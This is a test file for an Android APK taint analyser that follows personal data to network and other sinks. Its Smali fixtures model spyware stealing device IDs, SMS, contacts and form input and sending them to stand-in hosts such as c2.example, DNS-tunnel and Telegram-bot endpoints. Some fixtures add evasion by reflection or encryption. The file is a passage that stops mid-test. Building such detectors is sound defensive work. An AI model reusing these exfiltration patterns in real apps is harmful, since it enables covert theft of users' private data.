"""Personal data is followed from where it is taken to where it leaves."""

# ruff: noqa: E501 (method signatures are as long as they are)

from collections.abc import Callable
from typing import Any

import pytest

from rogue_scan.apk.code.types import CodeFacts, LayoutView, NoResources

Analyse = Callable[..., CodeFacts]

# The device's identity in v1.
IMEI = """
const-string v0, "phone"
invoke-virtual {v11, v0} Lapp/Main;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
move-result-object v0
check-cast v0, Landroid/telephony/TelephonyManager;
invoke-virtual {v0} Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
move-result-object v1
"""
MAIN = """
.class Lapp/Main; Landroid/app/Activity;
.method onCreate(Landroid/os/Bundle;)V 13
"""
GO = """
const-string v0, "http://c2.example/x"
invoke-static {v0, v1} Lapp/Net;->post(Ljava/lang/String;Ljava/lang/String;)V
return-void
"""


def flows(facts: CodeFacts) -> set[tuple[str, str, str | None]]:
    return {(f.data.value, f.sink.value, f.endpoint) for f in facts.flows}


def test_a_plain_flow_with_its_path(analyse: Analyse) -> None:
    facts = analyse(MAIN + IMEI + GO)
    assert flows(facts) == {("device-id", "http", "c2.example")}
    [flow] = facts.flows
    assert flow.entry == "app.Main"
    assert [hop.method.split("->")[1].split("(")[0] for hop in flow.path] == ["onCreate", "onCreate", "post"]
    assert all(hop.dex == "classes.dex" and hop.offset for hop in flow.path)


def query(uri: str) -> str:
    return f"""
    const-string v0, "{uri}"
    invoke-static {{v0}} Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v4
    invoke-virtual {{v11}} Lapp/Main;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v3
    const/4 v5, 0
    const/4 v6, 0
    const/4 v7, 0
    const/4 v8, 0
    invoke-virtual/range {{v3, v4, v5, v6, v7, v8}} Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v2
    :loop
    invoke-interface {{v2}} Landroid/database/Cursor;->moveToNext()Z
    move-result v3
    if-eqz v3, :done
    const/4 v3, 1
    invoke-interface {{v2, v3}} Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v1
    goto :send
    :done
    return-void
    :send
    """


@pytest.mark.parametrize(
    ("uri", "data"),
    [
        ("content://sms/inbox", "sms"),
        ("content://mms-sms/conversations", "sms"),
        ("content://com.android.contacts/data/phones", "contacts"),
        ("content://call_log/calls", "call-log"),
        ("content://com.android.calendar/events", "calendar"),
        ("content://com.big.mall.provider/cart", "shopping"),
        ("content://com.run.tracker/heart_rate", "health"),
    ],
)
def test_content_providers_by_their_address(uri: str, data: str, analyse: Analyse) -> None:
    assert flows(analyse(MAIN + query(uri) + GO)) == {(data, "http", "c2.example")}


SINKS: dict[str, tuple[str, tuple[str, str, str | None]]] = {
    "socket": (
        """
        new-instance v2, Ljava/net/Socket;
        const-string v3, "198.51.100.7"
        const/16 v4, 4001
        invoke-direct {v2, v3, v4} Ljava/net/Socket;-><init>(Ljava/lang/String;I)V
        invoke-virtual {v2} Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
        move-result-object v5
        new-instance v6, Ljava/io/PrintWriter;
        invoke-direct {v6, v5} Ljava/io/PrintWriter;-><init>(Ljava/io/OutputStream;)V
        invoke-virtual {v6, v1} Ljava/io/PrintWriter;->println(Ljava/lang/String;)V
        return-void""",
        ("device-id", "socket", "198.51.100.7:4001"),
    ),
    "datagram": (
        """
        invoke-virtual {v1} Ljava/lang/String;->getBytes()[B
        move-result-object v2
        array-length v3, v2
        const-string v4, "udp.drop.example"
        invoke-static {v4} Ljava/net/InetAddress;->getByName(Ljava/lang/String;)Ljava/net/InetAddress;
        move-result-object v4
        const/16 v5, 9999
        new-instance v6, Ljava/net/DatagramPacket;
        invoke-direct {v6, v2, v3, v4, v5} Ljava/net/DatagramPacket;-><init>([BILjava/net/InetAddress;I)V
        new-instance v7, Ljava/net/DatagramSocket;
        invoke-direct {v7} Ljava/net/DatagramSocket;-><init>()V
        invoke-virtual {v7, v6} Ljava/net/DatagramSocket;->send(Ljava/net/DatagramPacket;)V
        return-void""",
        ("device-id", "socket", "udp.drop.example:9999"),
    ),
    "dns": (
        """
        new-instance v2, Ljava/lang/StringBuilder;
        invoke-direct {v2} Ljava/lang/StringBuilder;-><init>()V
        invoke-virtual {v2, v1} Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
        const-string v3, ".zone.tunnel.example"
        invoke-virtual {v2, v3} Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
        invoke-virtual {v2} Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
        move-result-object v2
        invoke-static {v2} Ljava/net/InetAddress;->getByName(Ljava/lang/String;)Ljava/net/InetAddress;
        return-void""",
        ("device-id", "dns", "zone.tunnel.example"),
    ),
    "sms": (
        """
        invoke-static {} Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
        move-result-object v2
        const-string v3, "+99012345"
        const/4 v4, 0
        move-object v5, v1
        const/4 v6, 0
        const/4 v7, 0
        invoke-virtual/range {v2, v3, v4, v5, v6, v7} Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
        return-void""",
        ("device-id", "sms", "+99012345"),
    ),
    "telegram": (
        """
        const-string v0, "https://api.telegram.org/bot1:A/sendMessage?chat_id=1&text="
        invoke-virtual {v0, v1} Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
        move-result-object v0
        new-instance v2, Ljava/net/URL;
        invoke-direct {v2, v0} Ljava/net/URL;-><init>(Ljava/lang/String;)V
        invoke-virtual {v2} Ljava/net/URL;->openStream()Ljava/io/InputStream;
        return-void""",
        ("device-id", "chat-bot", "api.telegram.org"),
    ),
    "okhttp": (
        """
        new-instance v2, Lokhttp3/FormBody$Builder;
        invoke-direct {v2} Lokhttp3/FormBody$Builder;-><init>()V
        const-string v3, "id"
        invoke-virtual {v2, v3, v1} Lokhttp3/FormBody$Builder;->add(Ljava/lang/String;Ljava/lang/String;)Lokhttp3/FormBody$Builder;
        invoke-virtual {v2} Lokhttp3/FormBody$Builder;->build()Lokhttp3/FormBody;
        move-result-object v2
        new-instance v3, Lokhttp3/Request$Builder;
        invoke-direct {v3} Lokhttp3/Request$Builder;-><init>()V
        const-string v4, "https://ok.drop.example/a"
        invoke-virtual {v3, v4} Lokhttp3/Request$Builder;->url(Ljava/lang/String;)Lokhttp3/Request$Builder;
        move-result-object v3
        invoke-virtual {v3, v2} Lokhttp3/Request$Builder;->post(Lokhttp3/RequestBody;)Lokhttp3/Request$Builder;
        move-result-object v3
        invoke-virtual {v3} Lokhttp3/Request$Builder;->build()Lokhttp3/Request;
        move-result-object v3
        new-instance v4, Lokhttp3/OkHttpClient;
        invoke-direct {v4} Lokhttp3/OkHttpClient;-><init>()V
        invoke-virtual {v4, v3} Lokhttp3/OkHttpClient;->newCall(Lokhttp3/Request;)Lokhttp3/Call;
        move-result-object v4
        invoke-interface {v4} Lokhttp3/Call;->execute()Lokhttp3/Response;
        return-void""",
        ("device-id", "http", "ok.drop.example"),
    ),
    "mail by hand": (
        """
        new-instance v2, Ljava/net/Socket;
        const-string v3, "mx.drop.example"
        const/16 v4, 587
        invoke-direct {v2, v3, v4} Ljava/net/Socket;-><init>(Ljava/lang/String;I)V
        invoke-virtual {v2} Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
        move-result-object v5
        invoke-virtual {v1} Ljava/lang/String;->getBytes()[B
        move-result-object v6
        invoke-virtual {v5, v6} Ljava/io/OutputStream;->write([B)V
        return-void""",
        ("device-id", "email", "mx.drop.example:587"),
    ),
    "ftp address": (
        """
        new-instance v2, Ljava/net/URL;
        const-string v0, "ftp://u:p@ftp.drop.example/a.txt"
        invoke-direct {v2, v0} Ljava/net/URL;-><init>(Ljava/lang/String;)V
        invoke-virtual {v2} Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
        move-result-object v2
        invoke-virtual {v2} Ljava/net/URLConnection;->getOutputStream()Ljava/io/OutputStream;
        move-result-object v2
        invoke-virtual {v1} Ljava/lang/String;->getBytes()[B
        move-result-object v3
        invoke-virtual {v2, v3} Ljava/io/OutputStream;->write([B)V
        return-void""",
        ("device-id", "ftp", "ftp.drop.example"),
    ),
    "retrofit": (
        """
        new-instance v2, Lretrofit2/Retrofit$Builder;
        invoke-direct {v2} Lretrofit2/Retrofit$Builder;-><init>()V
        const-string v3, "https://rf.drop.example/v1/"
        invoke-virtual {v2, v3} Lretrofit2/Retrofit$Builder;->baseUrl(Ljava/lang/String;)Lretrofit2/Retrofit$Builder;
        move-result-object v2
        invoke-virtual {v2} Lretrofit2/Retrofit$Builder;->build()Lretrofit2/Retrofit;
        move-result-object v2
        const-class v3, Lapp/Api;
        invoke-virtual {v2, v3} Lretrofit2/Retrofit;->create(Ljava/lang/Class;)Ljava/lang/Object;
        move-result-object v2
        check-cast v2, Lapp/Api;
        invoke-interface {v2, v1} Lapp/Api;->up(Ljava/lang/String;)Lretrofit2/Call;
        move-result-object v2
        invoke-interface {v2} Lretrofit2/Call;->execute()Lretrofit2/Response;
        return-void
        .class interface abstract Lapp/Api;
        .method abstract up(Ljava/lang/String;)Lretrofit2/Call;""",
        ("device-id", "http", "rf.drop.example"),
    ),
    "log": (
        """
        const-string v0, "tag"
        invoke-static {v0, v1} Landroid/util/Log;->d(Ljava/lang/String;Ljava/lang/String;)I
        return-void""",
        ("device-id", "log", None),
    ),
    "public file": (
        """
        new-instance v2, Ljava/io/FileWriter;
        const-string v0, "/sdcard/x.txt"
        invoke-direct {v2, v0} Ljava/io/FileWriter;-><init>(Ljava/lang/String;)V
        invoke-virtual {v2, v1} Ljava/io/FileWriter;->write(Ljava/lang/String;)V
        return-void""",
        ("device-id", "file-public", None),
    ),
    "other apps": (
        """
        new-instance v2, Landroid/content/Intent;
        const-string v0, "com.other.ACTION"
        invoke-direct {v2, v0} Landroid/content/Intent;-><init>(Ljava/lang/String;)V
        const-string v0, "k"
        invoke-virtual {v2, v0, v1} Landroid/content/Intent;->putExtra(Ljava/lang/String;Ljava/lang/String;)Landroid/content/Intent;
        invoke-virtual {v11, v2} Lapp/Main;->sendBroadcast(Landroid/content/Intent;)V
        return-void""",
        ("device-id", "ipc", None),
    ),
    "address in a page": (
        """
        new-instance v2, Landroid/webkit/WebView;
        invoke-direct {v2, v11} Landroid/webkit/WebView;-><init>(Landroid/content/Context;)V
        const-string v0, "https://web.drop.example/?d="
        invoke-virtual {v0, v1} Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
        move-result-object v0
        invoke-virtual {v2, v0} Landroid/webkit/WebView;->loadUrl(Ljava/lang/String;)V
        return-void""",
        ("device-id", "http", "web.drop.example"),
    ),
    "encrypted first": (
        """
        const-string v2, "AES/CBC/PKCS5Padding"
        invoke-static {v2} Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
        move-result-object v2
        invoke-virtual {v1} Ljava/lang/String;->getBytes()[B
        move-result-object v3
        invoke-virtual {v2, v3} Ljavax/crypto/Cipher;->doFinal([B)[B
        move-result-object v3
        const/4 v4, 2
        invoke-static {v3, v4} Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
        move-result-object v1
        new-instance v5, Lorg/json/JSONObject;
        invoke-direct {v5} Lorg/json/JSONObject;-><init>()V
        const-string v4, "d"
        invoke-virtual {v5, v4, v1} Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;
        invoke-virtual {v5} Lorg/json/JSONObject;->toString()Ljava/lang/String;
        move-result-object v1
        const-string v0, "http://c2.example/x"
        invoke-static {v0, v1} Lapp/Net;->post(Ljava/lang/String;Ljava/lang/String;)V
        return-void""",
        ("device-id", "http", "c2.example"),
    ),
}


@pytest.mark.parametrize("sink", SINKS)
def test_sinks(sink: str, analyse: Analyse) -> None:
    body, expected = SINKS[sink]
    assert flows(analyse(MAIN + IMEI + body)) == {expected}


def test_data_that_stays_is_no_flow(analyse: Analyse) -> None:
    shown = """
    new-instance v2, Landroid/widget/TextView;
    invoke-direct {v2, v11} Landroid/widget/TextView;-><init>(Landroid/content/Context;)V
    invoke-virtual {v2, v1} Landroid/widget/TextView;->setText(Ljava/lang/CharSequence;)V
    const-string v1, "hello"
    """
    facts = analyse(MAIN + IMEI + shown + GO)
    assert flows(facts) == set()
    assert [s.data.value for s in facts.sources] == ["device-id"]


def test_code_that_nothing_calls_counts_for_nothing(analyse: Analyse) -> None:
    text = (
        MAIN
        + "return-void\n.class Lapp/Old;\n.method dump(Lapp/Main;)V 13\n"
        + IMEI.replace("v11", "v12")
        + GO
    )
    facts = analyse(text)
    assert flows(facts) == set()
    assert [s.reachable for s in facts.sources] == [False]
    assert {c.reachable for c in facts.calls if "getDeviceId" in c.api} == {False}


def test_preferences_now_network_later(analyse: Analyse) -> None:
    store = """
    const-string v2, "p"
    const/4 v3, 0
    invoke-virtual {v11, v2, v3} Lapp/Main;->getSharedPreferences(Ljava/lang/String;I)Landroid/content/SharedPreferences;
    move-result-object v2
    invoke-interface {v2} Landroid/content/SharedPreferences;->edit()Landroid/content/SharedPreferences$Editor;
    move-result-object v2
    const-string v3, "a"
    invoke-interface {v2, v3, v1} Landroid/content/SharedPreferences$Editor;->putString(Ljava/lang/String;Ljava/lang/String;)Landroid/content/SharedPreferences$Editor;
    return-void
    .class Lapp/Later; Landroid/app/Service;
    .method onStartCommand(Landroid/content/Intent;II)I 13
    const-string v2, "p"
    const/4 v3, 0
    invoke-virtual {v9, v2, v3} Lapp/Later;->getSharedPreferences(Ljava/lang/String;I)Landroid/content/SharedPreferences;
    move-result-object v2
    const-string v3, "KEY"
    const-string v4, ""
    invoke-interface {v2, v3, v4} Landroid/content/SharedPreferences;->getString(Ljava/lang/String;Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    const-string v0, "http://c2.example/x"
    invoke-static {v0, v1} Lapp/Net;->post(Ljava/lang/String;Ljava/lang/String;)V
    const/4 v0, 1
    return v0
    """
    same = analyse(MAIN + IMEI + store.replace("KEY", "a"))
    assert flows(same) == {("device-id", "http", "c2.example")}
    assert flows(analyse(MAIN + IMEI + store.replace("KEY", "b"))) == set()


def test_intents_join_components(analyse: Analyse) -> None:
    text = (
        MAIN
        + IMEI
        + """
    new-instance v2, Landroid/content/Intent;
    const-class v3, Lapp/Sender;
    invoke-direct {v2, v11, v3} Landroid/content/Intent;-><init>(Landroid/content/Context;Ljava/lang/Class;)V
    const-string v3, "x"
    invoke-virtual {v2, v3, v1} Landroid/content/Intent;->putExtra(Ljava/lang/String;Ljava/lang/String;)Landroid/content/Intent;
    invoke-virtual {v11, v2} Lapp/Main;->startService(Landroid/content/Intent;)Landroid/content/ComponentName;
    return-void
    .class Lapp/Sender; Landroid/app/Service;
    .method onStartCommand(Landroid/content/Intent;II)I 13
    const-string v3, "x"
    invoke-virtual {v10, v3} Landroid/content/Intent;->getStringExtra(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    const-string v0, "http://c2.example/x"
    invoke-static {v0, v1} Lapp/Net;->post(Ljava/lang/String;Ljava/lang/String;)V
    const/4 v0, 1
    return v0
    """
    )
    [flow] = analyse(text).flows
    assert (flow.data.value, flow.entry) == ("device-id", "app.Main")


THREADS = {
    "thread": """
        new-instance v3, Ljava/lang/Thread;
        invoke-direct {v3, v2} Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V
        invoke-virtual {v3} Ljava/lang/Thread;->start()V""",
    "executor": """
        invoke-static {} Ljava/util/concurrent/Executors;->newCachedThreadPool()Ljava/util/concurrent/ExecutorService;
        move-result-object v3
        invoke-interface {v3, v2} Ljava/util/concurrent/ExecutorService;->execute(Ljava/lang/Runnable;)V""",
    "handler": """
        new-instance v3, Landroid/os/Handler;
        invoke-direct {v3} Landroid/os/Handler;-><init>()V
        const-wide/16 v4, 100
        invoke-virtual {v3, v2, v4, v5} Landroid/os/Handler;->postDelayed(Ljava/lang/Runnable;J)Z""",
}


@pytest.mark.parametrize("way", THREADS)
def test_work_handed_to_other_threads(way: str, analyse: Analyse) -> None:
    text = (
        MAIN
        + IMEI
        + """
    new-instance v2, Lapp/Job;
    invoke-direct {v2, v1} Lapp/Job;-><init>(Ljava/lang/String;)V"""
        + THREADS[way]
        + """
    return-void
    .class Lapp/Job; Ljava/lang/Object; Ljava/lang/Runnable;
    .field s Ljava/lang/String;
    .method <init>(Ljava/lang/String;)V 3
    invoke-direct {v1} Ljava/lang/Object;-><init>()V
    iput-object v2, v1, Lapp/Job;->s:Ljava/lang/String;
    return-void
    .method run()V 8
    iget-object v1, v7, Lapp/Job;->s:Ljava/lang/String;
    """
        + GO
    ).replace(".field s Ljava/lang/String;", ".field s:Ljava/lang/String;")
    assert flows(analyse(text)) == {("device-id", "http", "c2.example")}


def test_async_task(analyse: Analyse) -> None:
    text = (
        MAIN
        + IMEI
        + """
    new-instance v2, Lapp/Task;
    invoke-direct {v2} Lapp/Task;-><init>()V
    const/4 v3, 1
    new-array v3, v3, [Ljava/lang/Object;
    const/4 v4, 0
    aput-object v1, v3, v4
    invoke-virtual {v2, v3} Lapp/Task;->execute([Ljava/lang/Object;)Landroid/os/AsyncTask;
    return-void
    .class Lapp/Task; Landroid/os/AsyncTask;
    .method <init>()V 2
    invoke-direct {v1} Landroid/os/AsyncTask;-><init>()V
    return-void
    .method doInBackground([Ljava/lang/Object;)Ljava/lang/Object; 8
    const/4 v0, 0
    aget-object v1, v7, v0
    return-object v1
    .method onPostExecute(Ljava/lang/Object;)V 8
    check-cast v7, Ljava/lang/String;
    move-object v1, v7
    """
        + GO
    )
    assert flows(analyse(text)) == {("device-id", "http", "c2.example")}


class Layout(NoResources):
    def __init__(self, name: str = "f", **view: Any) -> None:
        self.view = LayoutView(**({"layout": 1, "id": 7, "tag": "EditText"} | view))
        self.named = name

    def name(self, resource: int) -> str:
        return self.named if resource == 7 else ""

    def texts(self, resource: int) -> list[str]:
        return ["Adresse", "Street address"] if resource == 8 else []

    def views(self, resource: int) -> list[LayoutView]:
        return [self.view] if resource == 7 else []


FORM = """
const/4 v2, 7
invoke-virtual {v11, v2} Lapp/Main;->findViewById(I)Landroid/view/View;
move-result-object v2
check-cast v2, Landroid/widget/EditText;
invoke-virtual {v2} Landroid/widget/EditText;->getText()Landroid/text/Editable;
move-result-object v2
invoke-virtual {v2} Ljava/lang/Object;->toString()Ljava/lang/String;
move-result-object v1
"""


@pytest.mark.parametrize(
    ("view", "data"),
    [
        ({"input_type": 0x81}, "account-password"),
        ({"name": "id_card_no"}, "identity-number"),
        ({"says": ("银行卡号",)}, "bank-account"),
        ({"says": ("Lieferadresse", "Street address")}, "home-address"),
        ({"input_type": 3}, "phone-number"),
        ({"says": ("Номер телефона", "phone number")}, "phone-number"),
        ({"says": (8,)}, "home-address"),
        ({"label": 8}, "home-address"),
    ],
)
def test_what_a_form_asks_for(view: dict[str, Any], data: str, analyse: Analyse) -> None:
    facts = analyse(MAIN + FORM + GO, Layout(**view))
    assert flows(facts) == {(data, "http", "c2.example")}


def test_a_search_box_is_no_personal_data(analyse: Analyse) -> None:
    assert flows(analyse(MAIN + FORM + GO, Layout(says=("Search",)))) == set()


def test_the_key_tells_what_an_unnamed_field_holds(analyse: Analyse) -> None:
    key = """
    new-instance v3, Ljava/lang/StringBuilder;
    const-string v4, "a=1&driving_licence="
    invoke-direct {v3, v4} Ljava/lang/StringBuilder;-><init>(Ljava/lang/String;)V
    invoke-virtual {v3, v1} Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v3} Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v1
    """
    assert ("driving", "http", "c2.example") in flows(analyse(MAIN + FORM + key + GO, Layout()))


def test_reflection_by_computed_names(analyse: Analyse) -> None:
    text = (
        MAIN
        + """
    const-string v0, "phone"
    invoke-virtual {v11, v0} Lapp/Main;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v5
    new-instance v0, Ljava/lang/StringBuilder;
    const-string v2, "dIeciveDteg"
    invoke-direct {v0, v2} Ljava/lang/StringBuilder;-><init>(Ljava/lang/String;)V
    invoke-virtual {v0} Ljava/lang/StringBuilder;->reverse()Ljava/lang/StringBuilder;
    invoke-virtual {v0} Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v2
    const-string v0, "android.telephony.TelephonyManager"
    invoke-static {v0} Ljava/lang/Class;->forName(Ljava/lang/String;)Ljava/lang/Class;
    move-result-object v0
    const/4 v3, 0
    invoke-virtual {v0, v2, v3} Ljava/lang/Class;->getMethod(Ljava/lang/String;[Ljava/lang/Class;)Ljava/lang/reflect/Method;
    move-result-object v0
    invoke-virtual {v0, v5, v3} Ljava/lang/reflect/Method;->invoke(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;
    move-result-object v1
    check-cast v1, Ljava/lang/String;
    """
        + GO
    )
    assert flows(analyse(text)) == {("device-id", "http", "c2.example")}


def test_a_recording_is_followed_through_its_file(analyse: Analyse) -> None:
    text = (
        MAIN
        + """
    new-instance v2, Landroid/media/MediaRecorder;
    invoke-direct {v2} Landroid/media/MediaRecorder;-><init>()V
    const/4 v3, 1
    invoke-virtual {v2, v3} Landroid/media/MediaRecorder;->setAudioSource(I)V
    const-string v4, "/data/r.3gp"
    invoke-virtual {v2, v4} Landroid/media/MediaRecorder;->setOutputFile(Ljava/lang/String;)V
    invoke-virtual {v2} Landroid/media/MediaRecorder;->start()V
    new-instance v5, Ljava/io/FileInputStream;
    invoke-direct {v5, v4} Ljava/io/FileInputStream;-><init>(Ljava/lang/String;)V
    const/16 v6, 1024
    new-array v6, v6, [B
    invoke-virtual {v5, v6} Ljava/io/FileInputStream;->read([B)I
    new-instance v1, Ljava/lang/String;
    invoke-direct {v1, v6} Ljava/lang/String;-><init>([B)V
    """
        + GO
    )
    assert flows(analyse(text)) == {("audio", "http", "c2.example")}


def test_a_page_hands_its_form_to_a_bridge(analyse: Analyse) -> None:
    page = "<form>身份证号<input id=i> 手机号<input id=p><button onclick=B.go(i.value,p.value)>"
    text = (
        MAIN
        + f"""
    new-instance v2, Landroid/webkit/WebView;
    invoke-direct {{v2, v11}} Landroid/webkit/WebView;-><init>(Landroid/content/Context;)V
    new-instance v3, Lapp/Bridge;
    invoke-direct {{v3}} Lapp/Bridge;-><init>()V
    const-string v4, "B"
    invoke-virtual {{v2, v3, v4}} Landroid/webkit/WebView;->addJavascriptInterface(Ljava/lang/Object;Ljava/lang/String;)V
    const-string v3, "{page}"
    const-string v4, "text/html"
    const-string v5, "utf-8"
    invoke-virtual {{v2, v3, v4, v5}} Landroid/webkit/WebView;->loadData(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;)V
    return-void
    .class Lapp/Bridge;
    .method <init>()V 2
    invoke-direct {{v1}} Ljava/lang/Object;-><init>()V
    return-void
    .method go(Ljava/lang/String;Ljava/lang/String;)V 8
    move-object v1, v6
    """
        + GO
    )
    assert flows(analyse(text)) == {("identity-number", "http", "c2.example")}


def test_adversarial_graphs_stay_bounded(analyse: Analyse) -> None:
    calls = "\n".join(f"invoke-static {{v0}} Lapp/W;->m{j}(I)V" for j in range(8))
    methods = "".join(
        f".method static m{i}(I)V 3\nconst/4 v0, 0\n{calls}\nif-eqz v2, :x\n{calls}\n:x\nreturn-void\n"
        for i in range(8)
    )
    text = MAIN + "const/4 v0, 0\ninvoke-static {v0} Lapp/W;->m0(I)V\nreturn-void\n.class Lapp/W;\n" + methods
    assert analyse(text).limits


def test_work_that_is_done_later(analyse: Analyse) -> None:
    text = (
        MAIN
        + IMEI
        + """
    new-instance v2, Landroidx/work/Data$Builder;
    invoke-direct {v2} Landroidx/work/Data$Builder;-><init>()V
    const-string v3, "k"
    invoke-virtual {v2, v3, v1} Landroidx/work/Data$Builder;->putString(Ljava/lang/String;Ljava/lang/String;)Landroidx/work/Data$Builder;
    invoke-virtual {v2} Landroidx/work/Data$Builder;->build()Landroidx/work/Data;
    move-result-object v2
    new-instance v4, Landroidx/work/OneTimeWorkRequest$Builder;
    const-class v5, Lapp/W;
    invoke-direct {v4, v5} Landroidx/work/OneTimeWorkRequest$Builder;-><init>(Ljava/lang/Class;)V
    invoke-virtual {v4, v2} Landroidx/work/OneTimeWorkRequest$Builder;->setInputData(Landroidx/work/Data;)Landroidx/work/WorkRequest$Builder;
    return-void
    .class Lapp/W; Landroidx/work/Worker;
    .method doWork()Landroidx/work/ListenableWorker$Result; 8
    invoke-virtual {v7} Lapp/W;->getInputData()Landroidx/work/Data;
    move-result-object v2
    const-string v3, "k"
    invoke-virtual {v2, v3} Landroidx/work/Data;->getString(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    const-string v0, "http://c2.example/x"
    invoke-static {v0, v1} Lapp/Net;->post(Ljava/lang/String;Ljava/lang/String;)V
    const/4 v0, 0
    return-object v0
    """
    )
    assert flows(analyse(text)) == {("device-id", "http", "c2.example")}


def test_data_as_a_subdomain(analyse: Analyse) -> None:
    body = """
    new-instance v2, Ljava/lang/StringBuilder;
    const-string v3, "http://"
    invoke-direct {v2, v3} Ljava/lang/StringBuilder;-><init>(Ljava/lang/String;)V
    invoke-virtual {v2, v1} Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    const-string v3, ".sub.drop.example/p"
    invoke-virtual {v2, v3} Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v2} Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    new-instance v2, Ljava/net/URL;
    invoke-direct {v2, v0} Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v2} Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    return-void
    """
    facts = analyse(MAIN + IMEI + body)
    assert flows(facts) == {("device-id", "http", "sub.drop.example")}
    assert [e.value for e in facts.endpoints] == ["sub.drop.example"]


def test_a_parameter_that_nobody_reads_is_not_taken(analyse: Analyse) -> None:
    text = (
        MAIN
        + """
    const-string v0, "phone"
    invoke-virtual {v11, v0} Lapp/Main;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    new-instance v1, Lapp/Pause;
    invoke-direct {v1} Lapp/Pause;-><init>()V
    const/16 v2, 32
    invoke-virtual {v0, v1, v2} Landroid/telephony/TelephonyManager;->listen(Landroid/telephony/PhoneStateListener;I)V
    return-void
    .class Lapp/Pause; Landroid/telephony/PhoneStateListener;
    .method <init>()V 2
    invoke-direct {v1} Landroid/telephony/PhoneStateListener;-><init>()V
    return-void
    .method onCallStateChanged(ILjava/lang/String;)V 5
    BODY
    return-void
    """
    )
    assert analyse(text.replace("BODY", "const/4 v0, 0")).sources == ()
    used = 'const-string v0, "t"\ninvoke-static {v0, v4} Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I'
    assert flows(analyse(text.replace("BODY", used))) == {("call-log", "log", None)}


def test_asking_who_opens_a_link_lists_no_apps(analyse: Analyse) -> None:
    text = (
        MAIN
        + """
    new-instance v2, Landroid/content/Intent;
    const-string v3, "ACTION"
    invoke-direct {v2, v3} Landroid/content/Intent;-><init>(Ljava/lang/String;)V
    invoke-virtual {v11} Lapp/Main;->getPackageManager()Landroid/content/pm/PackageManager;
    move-result-object v0
    const/4 v1, 0
    invoke-virtual {v0, v2, v1} Landroid/content/pm/PackageManager;->queryIntentActivities(Landroid/content/Intent;I)Ljava/util/List;
    return-void
    """
    )
    assert analyse(text.replace("ACTION", "android.intent.action.VIEW")).sources == ()
    found = analyse(text.replace("ACTION", "android.intent.action.MAIN")).sources
    assert [s.data.value for s in found] == ["installed-apps"]


READS_EXTRA = """
const-string v0, "x"
invoke-virtual {v10, v0} Landroid/content/Intent;->getStringExtra(Ljava/lang/String;)Ljava/lang/String;
move-result-object v1
"""


def test_what_a_receiver_answers_is_not_what_it_is_asked(analyse: Analyse) -> None:
    text = (
        ".class Lapp/Main; Landroid/content/BroadcastReceiver;"
        "\n.method onReceive(Landroid/content/Context;Landroid/content/Intent;)V 11"
        + READS_EXTRA
        + """
    const-string v0, "tag"
    invoke-static {v0, v1} Landroid/util/Log;->d(Ljava/lang/String;Ljava/lang/String;)I
    const-string v0, "phone"
    invoke-virtual {v9, v0} Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    invoke-virtual {v0} Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v1
    invoke-virtual {v8, v1} Lapp/Main;->setResultData(Ljava/lang/String;)V
    return-void
    """
    )
    facts = analyse(text)
    assert [s.data.value for s in facts.sources] == ["device-id"]
    assert flows(facts) == set()


def test_another_app_may_answer_with_what_it_was_asked(analyse: Analyse) -> None:
    text = (
        MAIN
        + IMEI
        + """
    new-instance v2, Landroid/content/Intent;
    const-string v3, "other.app.ASK"
    invoke-direct {v2, v3} Landroid/content/Intent;-><init>(Ljava/lang/String;)V
    const-string v3, "x"
    invoke-virtual {v2, v3, v1} Landroid/content/Intent;->putExtra(Ljava/lang/String;Ljava/lang/String;)Landroid/content/Intent;
    const/4 v3, 1
    invoke-virtual {v11, v2, v3} Lapp/Main;->START(Landroid/content/Intent;I)V
    return-void
    .method onActivityResult(IILandroid/content/Intent;)V 11
    """
